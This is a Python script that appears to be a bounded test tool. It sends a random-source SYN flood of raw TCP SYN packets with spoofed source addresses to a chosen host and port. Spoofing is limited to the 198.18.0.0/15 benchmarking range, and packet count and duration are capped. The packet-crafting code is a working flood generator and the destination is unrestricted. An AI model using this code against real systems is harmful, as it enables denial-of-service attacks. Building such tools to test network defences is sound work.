#!/usr/bin/env python3
"""A random-source SYN flood, bounded: COUNT TCP SYNs to DST:PORT, each from a different address
drawn from PREFIX (an IPv4 /16 or wider inside 198.18.0.0/15), for at most SECONDS. What
`hping3 --rand-source` does, kept inside the test's address range. Run in a test namespace.

usage: spoof-syn.py DST PORT COUNT SECONDS [PREFIX=198.19.0.0/16] [SEED=1]
Prints the number of packets sent."""
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> int:
    if len(sys.argv) < 5:
        print(__doc__, file=sys.stderr)
        return 2
    dst, port, count, seconds = sys.argv[1], int(sys.argv[2]), min(int(sys.argv[3]), 200_000), float(sys.argv[4])
    net = ipaddress.ip_network(sys.argv[5] if len(sys.argv) > 5 else "198.19.0.0/16")
    if not net.subnet_of(ipaddress.ip_network("198.18.0.0/15")):
        print(f"{net} is outside 198.18.0.0/15", file=sys.stderr)
        return 2
    rand = random.Random(int(sys.argv[6]) if len(sys.argv) > 6 else 1)
    hosts = rand.sample(range(1, net.num_addresses - 1), min(count, net.num_addresses - 2))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    d = socket.inet_aton(dst)
    deadline = time.monotonic() + seconds
    sent = 0
    for h in hosts:
        if time.monotonic() > deadline:
            break
        src = (net.network_address + h).packed
        sock.sendto(syn(src, d, rand.randrange(1024, 65536), port, rand.getrandbits(32)), (dst, 0))
        sent += 1
    print(sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
